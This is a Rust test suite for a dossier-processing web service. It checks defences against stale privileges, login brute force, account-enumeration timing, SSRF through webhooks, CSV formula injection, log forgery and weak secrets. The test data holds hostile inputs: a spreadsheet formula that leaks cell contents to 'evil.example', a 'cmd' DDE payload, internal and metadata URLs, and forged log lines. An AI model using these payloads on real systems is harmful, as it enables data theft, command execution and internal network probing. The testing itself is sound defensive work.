//! What a hostile user or a careless deployment could do: stale privileges, login throttling, the
//! timing of a deactivated account, webhook targets inside the network, metric labels, the public
//! lookup's limit, control characters, formulas in CSV reports, forged log lines, response headers
//! and the deployment's secrets. Each test runs on SQLite and on PostgreSQL.

use std::{
    io::Read,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use motcua::{config::WebhookSettings, startup::Application};
use proptest::{
    prelude::*,
    test_runner::{Config as ProptestConfig, TestRunner},
};
use serde_json::{Value, json};

use crate::{
    backend_tests,
    catalogue::{PROCEDURE, procedure_body, seed_catalogue},
    helpers::{
        TEST_JWT_SECRET, TestApp, TestDb, client_builder, client_with_token, expect_problem,
        spawn_app, spawn_instance, test_config,
    },
    webhooks::{Receiver, fast_webhooks, start, start_beside},
};

const PASSWORD: &str = "mật khẩu đủ dài 2026";

/// The text columns of an `idempotency_keys` row, read behind the application's back.
#[derive(Debug, diesel::QueryableByName)]
#[allow(dead_code)] // read through `Debug`
struct IdempotencyRow {
    #[diesel(sql_type = diesel::sql_types::Text)]
    key_digest: String,
    #[diesel(sql_type = diesel::sql_types::Text)]
    request_hash: String,
    #[diesel(sql_type = diesel::sql_types::Nullable<diesel::sql_types::Text>)]
    location: Option<String>,
    #[diesel(sql_type = diesel::sql_types::Text)]
    sealed_body: String,
}

/// A client whose requests come from `ip` (any address of the loopback range).
fn from_address(ip: &str) -> reqwest::Client {
    client_builder(None)
        .local_address(Some(ip.parse().expect("address")))
        .build()
        .expect("client")
}

async fn create_user(app: &TestApp, username: &str, role: &str, unit: Option<&str>) {
    let response = app
        .post_json(
            "/api/v1/users",
            &json!({"username": username, "password": PASSWORD, "role": role, "unit_code": unit}),
        )
        .await;
    assert_eq!(response.status(), 201, "{}", response.text().await.unwrap());
}

async fn patch_user(app: &TestApp, username: &str, body: Value) {
    let response = app
        .client
        .patch(app.url(&format!("/api/v1/users/{username}")))
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200, "{}", response.text().await.unwrap());
}

async fn login(
    client: &reqwest::Client,
    address: &str,
    username: &str,
    password: &str,
) -> reqwest::Response {
    client
        .post(format!("{address}/api/v1/auth/token"))
        .json(&json!({"username": username, "password": password}))
        .send()
        .await
        .unwrap()
}

async fn token_of(app: &TestApp, username: &str) -> String {
    let response = login(&app.anonymous, &app.address, username, PASSWORD).await;
    assert_eq!(response.status(), 200, "{}", response.text().await.unwrap());
    let body: Value = response.json().await.unwrap();
    body["access_token"].as_str().unwrap().to_owned()
}

fn header<'r>(response: &'r reqwest::Response, name: &str) -> &'r str {
    response
        .headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
}

fn median(mut samples: Vec<Duration>) -> Duration {
    samples.sort();
    let n = samples.len();
    (samples[(n - 1) / 2] + samples[n / 2]) / 2
}

fn receipt(procedure: &str) -> Value {
    json!({
        "procedure_code": procedure,
        "applicant": {"name": "Hộ kinh doanh Bình Minh"},
        "channel": "online",
        "received_at": "2025-03-03T08:00:00+07:00",
    })
}

fn field_names(problem: &Value) -> Vec<String> {
    problem["errors"]
        .as_array()
        .map(|errors| {
            errors
                .iter()
                .map(|e| e["field"].as_str().unwrap_or_default().to_owned())
                .collect()
        })
        .unwrap_or_default()
}

backend_tests! {
    /// A demoted administrator and a leader moved to another unit lose the old permissions at
    /// their next request, not when the token expires.
    async fn a_role_or_unit_change_takes_effect_on_the_next_request(app: &TestApp) {
        seed_catalogue(app).await;
        // Another administrator, so that this one may be demoted.
        create_user(app, "quan.tri", "admin", None).await;
        create_user(app, "chi.lan", "admin", None).await;
        let old = token_of(app, "chi.lan").await;
        let create_unit = |token: String, code: &'static str| {
            let request = app
                .anonymous
                .post(app.url("/api/v1/units"))
                .bearer_auth(token)
                .json(&json!({"code": code, "name": "Tổ công tác", "agency_code": "SCT"}));
            async move { request.send().await.unwrap() }
        };
        assert_eq!(create_unit(old.clone(), "T1").await.status(), 201);

        patch_user(app, "chi.lan", json!({"role": "auditor"})).await;
        let refused = create_unit(old.clone(), "T2").await;
        assert!(header(&refused, "www-authenticate").contains("error=\"invalid_token\""));
        let problem = expect_problem(refused, 401).await;
        assert!(problem["detail"].as_str().unwrap().contains("role or unit"), "{problem}");
        // A fresh token carries the new role.
        let auditor = token_of(app, "chi.lan").await;
        expect_problem(create_unit(auditor, "T3").await, 403).await;

        create_user(app, "truong.phong", "leader", Some("QLTM")).await;
        let leader = token_of(app, "truong.phong").await;
        assert_eq!(app.get_as(&leader, "/api/v1/dossiers").await.status(), 200);
        patch_user(app, "truong.phong", json!({"unit_code": "BGD"})).await;
        expect_problem(app.get_as(&leader, "/api/v1/dossiers").await, 401).await;
        let moved = token_of(app, "truong.phong").await;
        assert_eq!(app.get_as(&moved, "/api/v1/dossiers").await.status(), 200);
    }

    /// Failures make the failing address wait; the account's owner, elsewhere, logs in.
    async fn failed_logins_slow_down_their_address_not_the_account(app: &TestApp) {
        create_user(app, "ke.toan", "auditor", None).await;
        let attacker = from_address("127.0.0.1");
        let owner = from_address("127.0.0.2");
        for _ in 0..5 {
            let wrong = login(&attacker, &app.address, "ke.toan", "not the password").await;
            expect_problem(wrong, 401).await;
        }
        let waiting = login(&attacker, &app.address, "ke.toan", PASSWORD).await;
        let retry_after: u64 = header(&waiting, "retry-after").parse().expect("Retry-After");
        assert!((1..=30).contains(&retry_after), "{retry_after}");
        expect_problem(waiting, 429).await;
        // The e-portal's client id is no secret either: failures from one address leave it usable.
        let ok = login(&owner, &app.address, "ke.toan", PASSWORD).await;
        assert_eq!(ok.status(), 200, "{}", ok.text().await.unwrap());
        let still = login(&attacker, &app.address, "ke.toan", PASSWORD).await;
        expect_problem(still, 429).await;
    }

    /// The throttle's state is in the database: failures on one instance count on another.
    async fn the_login_throttle_is_shared_by_every_instance(app: &TestApp) {
        create_user(app, "van.thu", "reception", None).await;
        let other = spawn_instance(app).await;
        for _ in 0..5 {
            expect_problem(login(&app.anonymous, &app.address, "van.thu", "nope, not it").await, 401).await;
        }
        let refused = login(&other.anonymous, &other.address, "van.thu", PASSWORD).await;
        expect_problem(refused, 429).await;
        other.shutdown().await;
    }

    /// A deactivated account must not answer faster than a wrong password: that would tell which
    /// accounts exist but are switched off. Each answer hashes (the dummy hash for a deactivated
    /// account), so the medians are alike; before, the deactivated one answered about 50 times
    /// faster. The factor of 4 leaves room for a busy machine.
    async fn a_deactivated_account_answers_as_slowly_as_a_wrong_password(app: &TestApp) {
        create_user(app, "dang.lam", "reception", None).await;
        create_user(app, "da.nghi", "reception", None).await;
        patch_user(app, "da.nghi", json!({"active": false})).await;
        let (mut deactivated, mut wrong) = (Vec::new(), Vec::new());
        // Four of each: under the five failures that make an address wait.
        for _ in 0..4 {
            let started = Instant::now();
            let r = login(&app.anonymous, &app.address, "da.nghi", PASSWORD).await;
            deactivated.push(started.elapsed());
            let deactivated_problem = expect_problem(r, 401).await;
            let started = Instant::now();
            let r = login(&app.anonymous, &app.address, "dang.lam", "wrong password!").await;
            wrong.push(started.elapsed());
            assert_eq!(expect_problem(r, 401).await, deactivated_problem, "the answers look alike");
        }
        let (deactivated, wrong) = (median(deactivated), median(wrong));
        assert!(
            deactivated * 4 >= wrong,
            "a deactivated account answered in {deactivated:?}, a wrong password in {wrong:?}"
        );
    }

    /// Literal internal addresses, in every spelling, are refused when subscribing.
    async fn internal_webhook_targets_are_refused_at_subscription(app: &TestApp) {
        let guarded = WebhookSettings { enabled: false, allow_private: false, ..fast_webhooks() };
        let (address, handle, _task) = start_beside(app, guarded).await;
        for url in [
            "http://127.0.0.1:8080/hook",
            "http://localhost/hook",
            "http://[::1]/hook",
            "http://169.254.169.254/latest/meta-data/",
            "http://10.0.0.1/hook",
            "http://0.0.0.0/hook",
            "http://127.1/hook",
            "http://2130706433/hook",
            "http://[::ffff:127.0.0.1]/hook",
            "http://192.168.1.10/hook",
            "http://[fd00::1]/hook",
        ] {
            let response = app
                .client
                .post(format!("{address}/api/v1/webhooks"))
                .json(&json!({"url": url, "events": ["dossier.received"]}))
                .send()
                .await
                .unwrap();
            let problem = expect_problem(response, 422).await;
            assert_eq!(field_names(&problem), ["url"], "{url}: {problem}");
        }
        // A name is checked when it is resolved, at delivery.
        let named = app
            .client
            .post(format!("{address}/api/v1/webhooks"))
            .json(&json!({"url": "https://dichvucong.example.gov.vn/hooks", "events": ["dossier.received"]}))
            .send()
            .await
            .unwrap();
        assert_eq!(named.status(), 201);
        handle.stop(false).await;
    }

    /// `/metrics` keeps a fixed set of series whatever methods and paths it is sent.
    async fn metric_labels_stay_within_fixed_sets(app: &TestApp) {
        for i in 0..30 {
            let method = reqwest::Method::from_bytes(format!("M{i}{}", "Z".repeat(300)).as_bytes()).unwrap();
            let _ = app.client.request(method, app.url("/api/v1/units")).send().await.unwrap();
            let _ = app.get(&format!("/nowhere/{i}/{}", "y".repeat(100))).await;
        }
        let metrics = app.get("/metrics").await.text().await.unwrap();
        assert!(!metrics.contains("ZZZZ"), "raw methods became labels");
        assert!(!metrics.contains("/nowhere/"), "raw paths became labels");
        assert!(metrics.contains("method=\"OTHER\""), "{metrics}");
        assert!(metrics.len() < 64 * 1024, "{} bytes", metrics.len());
    }

    /// Anyone may look a dossier up, but not without limit.
    async fn the_public_lookup_is_rate_limited(app: &TestApp) {
        let mut statuses = Vec::new();
        let mut retry_after = None;
        for _ in 0..25 {
            let response = app
                .anonymous
                .get(app.url("/api/v1/public/dossiers/SCT-2025-000001?secret=guess"))
                .send()
                .await
                .unwrap();
            statuses.push(response.status().as_u16());
            if response.status() == 429 {
                retry_after = Some(header(&response, "retry-after").to_owned());
                expect_problem(response, 429).await;
            }
        }
        assert_eq!(&statuses[..20], &[404; 20], "the burst of 20 is served");
        assert!(statuses[20..].iter().all(|s| *s == 429), "{statuses:?}");
        assert!(retry_after.unwrap().parse::<u64>().unwrap() >= 1);
    }

    /// A control character (NUL above all, which PostgreSQL refuses) in any text of a body, a
    /// query or an import is a 422 naming the field, on both databases.
    async fn control_characters_are_refused_naming_the_field(app: &TestApp) {
        seed_catalogue(app).await;
        let unit = app
            .post_json("/api/v1/units", &json!({"code": "X1", "name": "Phòng\u{0}A", "agency_code": "SCT"}))
            .await;
        assert_eq!(field_names(&expect_problem(unit, 422).await), ["name"]);

        let mut procedure = procedure_body(Some("QT-X"), 5);
        procedure["steps"][1]["name"] = json!("Thẩm định\u{1b}[31m");
        let procedure = app.post_json("/api/v1/procedures", &procedure).await;
        assert_eq!(field_names(&expect_problem(procedure, 422).await), ["steps[1].name"]);

        let mut dossier = receipt(PROCEDURE);
        dossier["applicant"]["name"] = json!("Nguyễn\rVăn A");
        let dossier = app.post_json("/api/v1/dossiers", &dossier).await;
        assert_eq!(field_names(&expect_problem(dossier, 422).await), ["applicant.name"]);

        let search = app.get("/api/v1/dossiers?q=a%00b").await;
        assert_eq!(field_names(&expect_problem(search, 422).await), ["q"]);
        // Tab and line feed are text.
        assert_eq!(app.get("/api/v1/dossiers?q=a%09b%0Ac").await.status(), 200);

        let line = json!({
            "external_ref": "DVC-NUL",
            "procedure_code": PROCEDURE,
            "channel": "online",
            "received_at": "2025-03-03T08:00:00+07:00",
            "applicant_name": "Công ty\u{0} Hòa Bình",
        });
        let imported = app
            .client
            .post(app.url("/api/v1/imports?kind=dossiers&mode=per_row"))
            .header("content-type", "application/x-ndjson")
            .body(format!("{line}\n"))
            .send()
            .await
            .unwrap();
        assert_eq!(imported.status(), 200);
        let report: Value = imported.json().await.unwrap();
        assert_eq!(report["rows"][0]["status"], "failed", "{report}");
        assert_eq!(report["rows"][0]["errors"][0]["field"], "applicant_name", "{report}");
        let csv = format!(
            "external_ref,procedure_code,channel,received_at,applicant_name\n\
             DVC-ESC,{PROCEDURE},online,2025-03-03T08:00:00+07:00,Cong ty \u{1b}[2J\n"
        );
        let imported = app
            .client
            .post(app.url("/api/v1/imports?kind=dossiers&mode=atomic"))
            .header("content-type", "text/csv")
            .body(csv)
            .send()
            .await
            .unwrap();
        let report: Value = imported.json().await.unwrap();
        assert_eq!(report["rows"][0]["errors"][0]["field"], "applicant_name", "{report}");
        assert_eq!(report["committed"], false);
    }

    /// A name that a spreadsheet would run as a formula reaches the CSV report as text.
    async fn csv_reports_neutralise_formulas(app: &TestApp) {
        seed_catalogue(app).await;
        let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")";
        let mut procedure = procedure_body(Some("QT-F"), 5);
        procedure["name"] = json!(formula);
        procedure["field"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
        let created = app.post_json("/api/v1/procedures", &procedure).await;
        assert_eq!(created.status(), 201, "{}", created.text().await.unwrap());
        let received = app.post_json("/api/v1/dossiers", &receipt("QT-F")).await;
        assert_eq!(received.status(), 201, "{}", received.text().await.unwrap());
        for group_by in ["procedure", "field"] {
            let response = app
                .get(&format!("/api/v1/stats/summary?from=2025-03-01&to=2025-03-31&group_by={group_by}&format=csv"))
                .await;
            assert_eq!(response.status(), 200);
            let text = response.text().await.unwrap();
            let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            let cells: Vec<String> = reader
                .records()
                .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
                .collect();
            for cell in &cells {
                let numeric = cell.parse::<f64>().is_ok();
                assert!(numeric || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            }
            let expected = if group_by == "procedure" { format!("'{formula}") } else { "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned() };
            assert!(cells.contains(&expected), "{group_by}: {cells:?}");
        }
    }

    /// Every answer says not to sniff; authenticated ones not to be stored; every 401 carries a
    /// bearer challenge; every page a Content-Security-Policy that its own files satisfy.
    async fn responses_carry_the_security_headers(app: &TestApp) {
        let units = app.get("/api/v1/units").await;
        assert_eq!(units.status(), 200);
        assert_eq!(header(&units, "cache-control"), "no-store");
        assert_eq!(header(&units, "x-content-type-options"), "nosniff");
        assert!(header(&units, "content-security-policy").starts_with("default-src 'none'"));

        let anonymous = app.anonymous.get(app.url("/api/v1/units")).send().await.unwrap();
        assert_eq!(header(&anonymous, "www-authenticate"), "Bearer realm=\"motcua\"");
        expect_problem(anonymous, 401).await;
        let forged = app.anonymous.get(app.url("/api/v1/units")).bearer_auth("e30.e30.x").send().await.unwrap();
        let challenge = header(&forged, "www-authenticate").to_owned();
        assert!(challenge.starts_with("Bearer realm=\"motcua\", error=\"invalid_token\", error_description=\""), "{challenge}");
        expect_problem(forged, 401).await;

        let health = app.anonymous.get(app.url("/healthz")).send().await.unwrap();
        assert_eq!(header(&health, "x-content-type-options"), "nosniff");

        let docs = app.anonymous.get(app.url("/docs/")).send().await.unwrap();
        assert_eq!(docs.status(), 200);
        let csp = header(&docs, "content-security-policy").to_owned();
        assert!(header(&docs, "content-type").starts_with("text/html"));
        for directive in ["default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'"] {
            assert!(csp.contains(directive), "{csp}");
        }
        assert!(!csp.contains("unsafe"), "{csp}");
        // The page loads only files of its own origin, and has no inline script or style to allow.
        let page = docs.text().await.unwrap();
        let mut loaded = Vec::new();
        for tag in page.split('<').skip(1) {
            let name = tag.split([' ', '>']).next().unwrap_or_default();
            if name == "script" {
                let src = tag.split("src=\"").nth(1).and_then(|s| s.split('"').next());
                let src = src.unwrap_or_else(|| panic!("inline script: {tag}"));
                let inline = tag.split_once('>').map_or("", |(_, rest)| rest).trim();
                assert!(inline.is_empty(), "inline script: {tag}");
                loaded.push(src.to_owned());
            }
            assert_ne!(name, "style", "inline style element");
            assert!(!tag.contains(" style=") && !tag.contains(" on"), "inline style or handler: {tag}");
            if name == "link" {
                loaded.push(tag.split("href=\"").nth(1).and_then(|s| s.split('"').next()).unwrap().to_owned());
            }
        }
        assert!(loaded.iter().any(|s| s.contains("swagger-initializer.js")), "{loaded:?}");
        for file in loaded {
            assert!(!file.contains("//"), "not from this origin: {file}");
            let served = app.anonymous.get(app.url(&format!("/docs/{}", file.trim_start_matches("./")))).send().await.unwrap();
            assert_eq!(served.status(), 200, "{file}");
        }
    }

    /// The idempotency record of a receipt keeps neither the lookup secret nor the key that would
    /// open its sealed reply in clear; a retry with the key still gets the same, working secret.
    async fn an_idempotent_receipt_keeps_no_lookup_secret_in_clear(app: &TestApp) {
        seed_catalogue(app).await;
        let key = "portal-retry-5f0c2d9e-7b1a-4c36-9d1e-2a8b3c4d5e6f";
        let send = || {
            app.client
                .post(app.url("/api/v1/dossiers"))
                .header("Idempotency-Key", key)
                .json(&crate::dossiers::receipt(None, Some("DVC-SEALED")))
                .send()
        };
        let first: Value = send().await.unwrap().json().await.unwrap();
        let secret = first["lookup_secret"].as_str().expect("the receipt shows the secret").to_owned();

        let mut conn = motcua::store::establish(&app.db.target).expect("connect");
        let rows: Vec<IdempotencyRow> = diesel::RunQueryDsl::load(
            diesel::sql_query("SELECT key_digest, request_hash, location, sealed_body FROM idempotency_keys"),
            &mut conn,
        )
        .expect("read the idempotency records");
        assert_eq!(rows.len(), 1);
        let stored = format!("{:?}", rows[0]);
        assert!(!stored.contains(&secret), "the lookup secret is stored in clear: {stored}");
        assert!(!stored.contains(key), "the key that opens the reply is stored: {stored}");
        assert!(!stored.contains("An Phát"), "the reply is stored in clear: {stored}");

        let again = send().await.unwrap();
        assert_eq!(again.status(), 201);
        let again: Value = again.json().await.unwrap();
        assert_eq!(again, first, "a retry gets the first reply, secret included");
        let code = first["code"].as_str().unwrap();
        let lookup = app
            .anonymous
            .get(app.url(&format!("/api/v1/public/dossiers/{code}?secret={secret}")))
            .send()
            .await
            .unwrap();
        assert_eq!(lookup.status(), 200, "the replayed secret opens the lookup");
    }
}

backend_tests! {
    /// Subscriptions made while the operator allowed internal targets are not delivered once an
    /// instance no longer allows them: the address is checked when it is connected to, names
    /// (here `localhost`) by what they resolve to then.
    async fn deliveries_to_internal_addresses_are_refused_when_sent(backend: Backend) {
        let allowing = start(backend, WebhookSettings { enabled: false, ..fast_webhooks() }).await;
        let app = &allowing.app;
        seed_catalogue(app).await;
        let receiver = Receiver::start(&[]).await;
        let by_name = receiver.url.replace("127.0.0.1", "localhost");
        let mut hooks = Vec::new();
        for url in [receiver.url.clone(), by_name] {
            let created = app
                .post_json("/api/v1/webhooks", &json!({"url": url, "events": ["dossier.received"]}))
                .await;
            assert_eq!(created.status(), 201);
            hooks.push(created.json::<Value>().await.unwrap()["id"].clone());
        }
        let received = app.post_json("/api/v1/dossiers", &receipt(PROCEDURE)).await;
        assert_eq!(received.status(), 201);

        let guarded = WebhookSettings { allow_private: false, ..fast_webhooks() };
        let (_, handle, task) = start_beside(app, guarded).await;
        for hook in &hooks {
            let mut log = Value::Null;
            for _ in 0..200 {
                let page: Value = app.get(&format!("/api/v1/webhooks/{hook}/deliveries")).await.json().await.unwrap();
                log = page["items"][0].clone();
                if log["status"] == "failed" {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            assert_eq!(log["status"], "failed", "{log}");
            for attempt in log["attempt_log"].as_array().unwrap() {
                assert_eq!(attempt["status_code"], Value::Null, "{attempt}");
                assert!(attempt["error"].as_str().unwrap().contains("not public"), "{attempt}");
            }
        }
        assert!(receiver.received().is_empty(), "nothing reached the internal receiver");
        handle.stop(true).await;
        let _ = task.await;
        receiver.stop().await;
        drop(allowing.stop().await);
    }

    /// The server refuses to start with a documented placeholder or a weak HS256 secret, and says
    /// how to make a good one; dev mode still starts (with a warning).
    async fn a_placeholder_or_weak_jwt_secret_stops_the_start(backend: Backend) {
        let db = TestDb::create(backend);
        for secret in [
            "change-me-to-a-long-random-secret-of-32-bytes-or-more",
            "0123456789abcdef0123456789abcdef",
            "motcuamotcuamotcuamotcuamotcuamotcua",
        ] {
            let mut config = test_config(db.target.clone());
            config.jwt.secret = Some(secret.to_owned());
            match Application::build(config.clone()).await {
                Ok(_) => panic!("{secret} was accepted"),
                Err(e) => {
                    let message = e.to_string();
                    assert!(message.contains("MOTCUA_JWT_SECRET") && message.contains("openssl rand"), "{message}");
                }
            }
            config.dev_mode = true;
            let started = Application::build(config).await;
            assert!(started.is_ok(), "dev mode starts");
        }
    }

    /// A user name or a path with a line break or an escape sequence cannot forge a log line or
    /// colour the output; the text log has no colour when it is not written to a terminal. (Such
    /// a user name is now refused before it is logged; the text format's escaping of whatever is
    /// logged is checked in `telemetry`'s own tests.)
    async fn logged_values_cannot_forge_lines_or_colour_the_output(backend: Backend) {
        let db = TestDb::create(backend);
        let url = match &db.target {
            motcua::config::DatabaseTarget::Sqlite(path) => path.display().to_string(),
            motcua::config::DatabaseTarget::Postgres(url) => url.clone(),
        };
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let mut server = KillOnDrop(Command::new(env!("CARGO_BIN_EXE_motcua"))
            .env("DATABASE_URL", url)
            .env("MOTCUA_BIND", format!("127.0.0.1:{port}"))
            .env("MOTCUA_JWT_SECRET", TEST_JWT_SECRET)
            .env("MOTCUA_LOG", "info")
            .env("MOTCUA_LOG_FORMAT", "text")
            .env("MOTCUA_WEBHOOK_WORKER", "false")
            .env_remove("NO_COLOR")
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("server starts"));
        let address = format!("http://127.0.0.1:{port}");
        let client = client_with_token(None);
        for _ in 0..200 {
            if client.get(format!("{address}/healthz")).send().await.is_ok() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        let forged = "2020-01-01T00:00:00.000000Z  INFO forged";
        let name = format!("nobody\n{forged}: admin logged in \u{1b}[31m");
        let r = login(&client, &address, &name, "whatever password").await;
        assert!(r.status().is_client_error());
        let r = client.get(format!("{address}/x%0A{}%1B%5B2J", forged.replace(' ', "%20"))).send().await.unwrap();
        assert!(r.status().is_client_error());
        // Let the log lines out, then stop the server.
        tokio::time::sleep(Duration::from_millis(300)).await;
        server.0.kill().unwrap();
        let mut output = String::new();
        server.0.stdout.take().unwrap().read_to_string(&mut output).unwrap();
        assert!(output.contains("/api/v1/auth/token"), "{output}");
        assert!(!output.contains('\u{1b}'), "escape codes in the log: {output:?}");
        for line in output.lines() {
            assert!(!line.to_lowercase().starts_with(&forged.to_lowercase()), "forged line: {output}");
        }
    }

    /// No text of any kind, control characters and NUL included, in a body, a query or a path
    /// makes the service answer with a server error.
    async fn no_text_input_makes_a_server_error(backend: Backend) {
        let app = spawn_app(backend).await;
        seed_catalogue(&app).await;
        let handle = tokio::runtime::Handle::current();
        let mut runner = TestRunner::new(ProptestConfig {
            cases: 24,
            failure_persistence: None,
            ..ProptestConfig::default()
        });
        let result = runner.run(&text(), |text| {
            let outcome = tokio::task::block_in_place(|| handle.block_on(send_everywhere(&app, &text)));
            prop_assert!(outcome.is_ok(), "{text:?}: {}", outcome.unwrap_err());
            Ok(())
        });
        app.shutdown().await;
        result.unwrap();
    }
}

/// A server process that is stopped however the test ends.
struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Text of any kind, weighted towards what breaks things: control characters, NUL, quotes,
/// separators and formula starts.
fn text() -> impl Strategy<Value = String> {
    let special = prop::sample::select(vec![
        '\0', '\t', '\n', '\r', '\u{b}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9f}', '\u{2028}',
        '\u{202e}', '\u{feff}', '\u{fffd}', '"', '\'', '\\', '%', '+', '=', '@', '&', '?', '#',
        '/', ';', ',', 'ệ', '𝔸',
    ]);
    prop::collection::vec(prop_oneof![any::<char>(), special], 0..24)
        .prop_map(|chars| chars.into_iter().collect())
}

/// Sends `text` into every kind of text input; `Err` names the first 5xx.
async fn send_everywhere(app: &TestApp, text: &str) -> Result<(), String> {
    let mut requests = vec![
        app.client.post(app.url("/api/v1/units")).json(&json!({"code": "U1", "name": text, "agency_code": "SCT"})),
        app.client.post(app.url("/api/v1/units")).json(&json!({"code": text, "name": "Tổ", "agency_code": text})),
        app.client.post(app.url("/api/v1/procedures")).json(&{
            let mut body = procedure_body(Some("QT-P"), 3);
            body["name"] = json!(text);
            body["steps"][0]["name"] = json!(text);
            body
        }),
        app.client.post(app.url("/api/v1/dossiers")).json(&json!({
            "procedure_code": PROCEDURE, "channel": "online",
            "applicant": {"name": text, "address": text, "phone": text}, "external_ref": text,
        })),
        app.client.post(app.url("/api/v1/users")).json(&json!({"username": text, "password": text, "role": "auditor"})),
        app.client.post(app.url("/api/v1/webhooks")).json(&json!({"url": format!("https://example.vn/{text}"), "events": ["dossier.received"], "description": text})),
        app.anonymous.post(app.url("/api/v1/auth/token")).json(&json!({"username": text, "password": text})),
        app.client.get(app.url("/api/v1/dossiers")).query(&[("q", text), ("field", text)]),
        app.client.get(app.url("/api/v1/audit")).query(&[("actor", text)]),
        app.client.post(app.url("/api/v1/imports?kind=dossiers&mode=per_row"))
            .header("content-type", "text/csv")
            .body(format!("external_ref,procedure_code,channel,received_at,applicant_name\nDVC-1,{PROCEDURE},online,2025-03-03T08:00:00+07:00,\"{}\"\n", text.replace('"', "\"\""))),
    ];
    let mut url = reqwest::Url::parse(&app.url("/api/v1/public/dossiers")).unwrap();
    url.path_segments_mut().unwrap().push(text);
    url.query_pairs_mut().append_pair("secret", text);
    requests.push(app.anonymous.get(url));
    let mut url = reqwest::Url::parse(&app.url("/api/v1/units")).unwrap();
    url.path_segments_mut().unwrap().push(text);
    requests.push(app.client.get(url));
    for request in requests {
        let (client, request) = request.build_split();
        let request = request.map_err(|e| e.to_string())?;
        let target = format!("{} {}", request.method(), request.url());
        let response = client.execute(request).await.map_err(|e| e.to_string())?;
        if response.status().is_server_error() {
            return Err(format!(
                "{target}: {} {}",
                response.status(),
                response.text().await.unwrap_or_default()
            ));
        }
    }
    Ok(())
}

/// The shipped compose file cannot start without the operator's own secret and admin password.
#[test]
fn the_compose_file_requires_the_operator_s_secrets() {
    let compose =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docker-compose.yml"))
            .unwrap();
    let value = |name: &str| {
        compose
            .lines()
            .find_map(|l| l.trim().strip_prefix(&format!("{name}:")).map(str::trim))
            .unwrap_or_else(|| panic!("{name} is not set"))
            .to_owned()
    };
    assert!(
        value("MOTCUA_JWT_SECRET").starts_with("${MOTCUA_JWT_SECRET:?"),
        "{compose}"
    );
    assert!(
        value("MOTCUA_ADMIN_PASSWORD").starts_with("${MOTCUA_ADMIN_PASSWORD:?"),
        "{compose}"
    );
    assert!(
        !compose.contains("change-me"),
        "a placeholder secret is left in: {compose}"
    );
}
